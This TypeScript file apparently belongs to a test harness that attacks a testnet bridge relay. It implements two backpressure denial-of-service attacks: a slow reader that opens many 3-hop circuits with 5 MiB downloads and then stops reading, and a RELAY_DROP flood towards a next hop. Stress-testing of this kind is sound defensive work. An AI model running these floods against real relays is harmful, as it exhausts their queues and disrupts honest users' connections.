import { Circuit } from '../../../shared/circuit/index.ts';
import type { Attack, AttackReport } from '../harness.ts';
import { Tally, failureLabel } from '../outcomes.ts';
import { bridgeTarget, circuitOptions, sleep, testnetTarget, webSocketLink } from '../peer.ts';

/**
 * Attack 5, backpressure, in two forms.
 *
 * Slow reader: over one WebSocket link, many 3-hop circuits (bridge → test005r → test006e), each
 * with streams downloading 5 MiB; then the attacker stops reading its socket. Everything the exit
 * may send within the circuit windows piles up at the bridge, on the link towards the attacker.
 *
 * Flood towards a next hop: 2-hop circuits (bridge → test005r) that send RELAY_DROP to test005r as
 * fast as the attacker's link takes them; DROP has no flow control, so nothing but the bridge's own
 * queueing stands between them and the link to test005r that the honest client's circuits share.
 */

export interface BackpressureReport extends AttackReport {
  readonly circuits: Tally;
  readonly streams: Tally;
  /** Cells the flood handed to its link. */
  readonly cellsSent: number;
}

export function slowReader(opts: { circuits?: number; streamsPerCircuit?: number } = {}): Attack<BackpressureReport> {
  return async ({ desc, relay, address, signal }) => {
    const circuits = new Tally();
    const streams = new Tally();
    let link: Awaited<ReturnType<typeof webSocketLink>>;
    try {
      link = await webSocketLink(relay, address, 10_000);
    } catch (e) {
      return { summary: `no link: ${failureLabel(e)}`, circuits, streams, cellsSent: 0 };
    }
    const built: Circuit[] = [];
    await Promise.all(Array.from({ length: opts.circuits ?? 40 }, async () => {
      try {
        const c = await Circuit.create(link.channel, bridgeTarget(relay), circuitOptions);
        await c.extend(testnetTarget(desc, 'test005r'));
        await c.extend(testnetTarget(desc, 'test006e'));
        built.push(c);
        circuits.add('built');
      } catch (e) {
        circuits.add(failureLabel(e));
      }
    }));
    await Promise.all(built.flatMap((c) => Array.from({ length: opts.streamsPerCircuit ?? 2 }, async () => {
      try {
        const s = await c.openStream(desc.web.address, desc.web.port, { timeoutMs: 15_000 });
        await s.write(new TextEncoder().encode(`GET /bytes/5m HTTP/1.0\r\n\r\n`));
        streams.add('downloading');
      } catch (e) {
        streams.add(failureLabel(e));
      }
    })));
    // Read nothing more: the bridge's queue towards us is all that can grow now.
    link.transport.pause();
    while (!signal.aborted) await sleep(100);
    const alive = built.filter((c) => c.isOpen).length;
    link.transport.close();
    return {
      summary: `one WebSocket link from ${address} stopped reading with ${circuits.get('built')} 3-hop circuits, 5 MiB streams: ${streams}; circuits: ${circuits}; ${alive} still open when it stopped`,
      circuits,
      streams,
      cellsSent: 0,
    };
  };
}

export function floodTowardsNextHop(opts: { circuits?: number; maxCells?: number } = {}): Attack<BackpressureReport> {
  return async ({ desc, relay, address, signal }) => {
    const circuits = new Tally();
    const streams = new Tally();
    let link: Awaited<ReturnType<typeof webSocketLink>>;
    try {
      link = await webSocketLink(relay, address, 10_000);
    } catch (e) {
      return { summary: `no link: ${failureLabel(e)}`, circuits, streams, cellsSent: 0 };
    }
    const built: Circuit[] = [];
    await Promise.all(Array.from({ length: opts.circuits ?? 8 }, async () => {
      try {
        const c = await Circuit.create(link.channel, bridgeTarget(relay), circuitOptions);
        await c.extend(testnetTarget(desc, 'test005r'));
        built.push(c);
        circuits.add('built');
      } catch (e) {
        circuits.add(failureLabel(e));
      }
    }));
    const maxCells = opts.maxCells ?? 2_000_000;
    let sent = 0;
    while (!signal.aborted && sent < maxCells && link.channel.isOpen && built.some((c) => c.isOpen)) {
      // Keep a few MiB in our own socket buffer, no more: the pressure is meant for the bridge.
      if (link.channel.queuedBytes > 4 * 1024 * 1024) {
        await sleep(5);
        continue;
      }
      for (const c of built) {
        if (!c.isOpen) continue;
        for (let i = 0; i < 64; i++) c.sendDrop(1, 498);
        sent += 64;
      }
      await new Promise((r) => setImmediate(r));
    }
    for (const c of built) circuits.add(c.isOpen ? 'open at the end' : 'lost');
    link.channel.close();
    return {
      summary: `one WebSocket link from ${address}, ${circuits.get('built')} circuits bridge → test005r, ${sent} RELAY_DROP cells (${Math.round((sent * 514) / 1048576)} MiB) towards test005r; circuits: ${circuits}`,
      circuits,
      streams,
      cellsSent: sent,
    };
  };
}
